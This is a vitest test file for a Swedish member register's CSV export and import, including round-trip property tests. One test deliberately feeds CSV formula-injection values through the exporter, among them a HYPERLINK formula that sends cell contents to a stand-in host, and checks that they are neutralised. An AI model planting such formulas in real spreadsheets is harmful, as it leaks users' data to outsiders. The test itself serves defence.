import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { membersToCsv, parseMembersCsv } from '../../../../renderer/src/domain/members/csv';
import { luhnValid } from '../../../../renderer/src/domain/members/identity';
import type { MemberDraft } from '../../../../renderer/src/domain/members/types';

const TODAY = new Date(2025, 5, 15);
const roundTrip = (members: MemberDraft[]) => parseMembersCsv(membersToCsv(members), undefined, { today: TODAY });

const saab: MemberDraft = {
  kind: 'organisation',
  name: 'Saab AB',
  organisationNumber: '556036-0793',
  email: 'info@example.se',
  phone: '013-18 00 00',
  address: { street: 'Bröderna Ugglas gata', postalCode: '581 88', city: 'Linköping', country: 'Sverige' },
  category: 'Storföretag',
  memberNumber: 101,
  status: 'active',
  joinedDate: '2015-03-01',
  tags: ['sponsor', 'styrelse'],
  contactName: 'Kerstin Ågren',
  notes: 'Faktura via Peppol; ref "4471"\nBetalar årsvis',
  consentDirectory: true,
  consentNewsletter: false,
};

describe('membersToCsv', () => {
  const csv = membersToCsv([saab, { kind: 'person', name: 'Erik Åkesson', personalNumber: '19121212-1212', status: 'resigned' }]);
  const lines = csv.split('\r\n');

  it('starts with a BOM and a Swedish, semicolon-separated header, with CRLF line endings', () => {
    expect(csv.startsWith('\uFEFFTyp;Namn;Organisationsnummer;Personnummer;E-post;Telefon;Gatuadress;Postnummer;Ort;Land;')).toBe(true);
    expect(lines[0]).toBe(
      '\uFEFFTyp;Namn;Organisationsnummer;Personnummer;E-post;Telefon;Gatuadress;Postnummer;Ort;Land;Faktura-e-post;' +
        'Webbplats;Kategori;Medlemsnummer;Status;Medlem sedan;Taggar;Kontaktperson;Kontaktpersonens e-post;' +
        'Kontaktpersonens telefon;Anteckningar;Samtycke medlemsförteckning;Samtycke nyhetsbrev',
    );
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\r(?!\n)/);
  });

  it('writes Swedish words for kind, status and consent and quotes only where needed', () => {
    expect(lines[1]).toBe(
      'Organisation;Saab AB;556036-0793;;info@example.se;013-18 00 00;Bröderna Ugglas gata;581 88;Linköping;Sverige;;;' +
        'Storföretag;101;aktiv;2015-03-01;sponsor, styrelse;Kerstin Ågren;;;"Faktura via Peppol; ref ""4471""\nBetalar årsvis";ja;nej',
    );
    expect(lines[2]).toBe('Person;Erik Åkesson;;19121212-1212;;;;;;;;;;;utträdd;;;;;;;;');
  });

  it('defuses cells a spreadsheet would run as a formula, and reading them back restores the value', () => {
    const attack: MemberDraft = {
      kind: 'organisation',
      name: '=HYPERLINK("http://example.com/?x="&A1;"Klicka")',
      phone: '+46 70 123 45 67',
      category: '-1+1',
      notes: "@SUM(1;2)\n'=already quoted",
      contactName: "'=A1",
    };
    const row = membersToCsv([attack]).split('\r\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://example.com/?x=""&A1;""Klicka"")"`);
    expect(row).toContain(";'+46 70 123 45 67;");
    expect(row).toContain(";'-1+1;");
    expect(row).toContain(`"'@SUM(1;2)\n'=already quoted"`);
    expect(row).toContain(";''=A1;");
    expect(roundTrip([attack])).toEqual({ members: [attack], errors: [] });
  });

  it('gives an empty register as a header only', () => {
    expect(roundTrip([])).toEqual({ members: [], errors: [] });
    expect(membersToCsv([]).split('\r\n')).toHaveLength(2);
  });
});

// ---- round trip property ----

const trimmed = (a: fc.Arbitrary<string>) => a.map((s) => s.trim()).filter((s) => s.length > 0);
const CHARS = [...'abcxyzÅÄÖåäöéüABC 0123456789;,."\'=+-@/&()§–€', '\t'];
const line = trimmed(fc.string({ unit: fc.constantFrom(...CHARS), maxLength: 20 }));
const multiline = trimmed(fc.string({ unit: fc.constantFrom(...CHARS, '\n', '\r\n'), maxLength: 40 }));
const tag = trimmed(fc.string({ unit: fc.constantFrom(...'abcåäöXYZ 12-'), maxLength: 8 }));

function checkDigit(nine: string): string {
  for (let d = 0; d <= 9; d++) if (luhnValid(`${nine}${d}`)) return `${nine}${d}`;
  throw new Error('unreachable');
}

const digits = (n: number) => fc.array(fc.integer({ min: 0, max: 9 }), { minLength: n, maxLength: n }).map((a) => a.join(''));

const legalEntity = fc
  .tuple(fc.constantFrom('1', '2', '3', '5', '6', '7', '8', '9'), digits(1), fc.integer({ min: 2, max: 9 }), digits(6))
  .map(([group, second, third, rest]) => checkDigit(`${group}${second}${third}${rest}`))
  .map((ten) => `${ten.slice(0, 6)}-${ten.slice(6)}`);

const isoDate = fc
  .date({ min: new Date(1900, 0, 1), max: new Date(2024, 11, 31), noInvalidDate: true })
  .map((d) => `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`);

const personalNumber = fc
  .tuple(isoDate, digits(3), fc.boolean())
  .map(([date, individual, coordination]) => {
    const [y, m, d] = date.split('-') as [string, string, string];
    const day = String(Number(d) + (coordination ? 60 : 0)).padStart(2, '0');
    const ten = checkDigit(`${y.slice(2)}${m}${day}${individual}`);
    return `${y.slice(0, 2)}${ten.slice(0, 6)}-${ten.slice(6)}`;
  });

const email = fc.emailAddress().filter((e) => /^[^\s@,;:<>()[\]"]+@[^.]+(\.[^.]+)+$/.test(e));

const common = {
  name: line,
  email,
  phone: line,
  address: fc.record({ street: line, postalCode: line, city: line, country: line }, { requiredKeys: [] }),
  invoiceEmail: email,
  website: line,
  category: line,
  memberNumber: fc.integer({ min: 1, max: 2 ** 40 }),
  status: fc.constantFrom('applied', 'active', 'resigned', 'excluded' as const),
  joinedDate: isoDate,
  tags: fc.uniqueArray(tag, { minLength: 1, maxLength: 4 }),
  contactName: line,
  contactEmail: email,
  contactPhone: line,
  notes: multiline,
  consentDirectory: fc.boolean(),
  consentNewsletter: fc.boolean(),
};

const organisation = fc
  .record(
    { kind: fc.constant('organisation' as const), organisationNumber: fc.oneof(legalEntity, personalNumber), personalNumber, ...common },
    { requiredKeys: ['kind', 'name'] },
  );
const person = fc.record({ kind: fc.constant('person' as const), personalNumber, ...common }, { requiredKeys: ['kind', 'name'] });

const member: fc.Arbitrary<MemberDraft> = fc.oneof(organisation, person).map((m) => {
  const { address, ...rest } = m;
  return address && Object.keys(address).length > 0 ? { ...rest, address } : rest;
});

describe('round trip', () => {
  it('parseMembersCsv(membersToCsv(x)) gives back x (property)', () => {
    fc.assert(
      fc.property(fc.array(member, { maxLength: 8 }), (members) => {
        expect(roundTrip(members)).toEqual({ members, errors: [] });
      }),
      { numRuns: 300 },
    );
  });
});
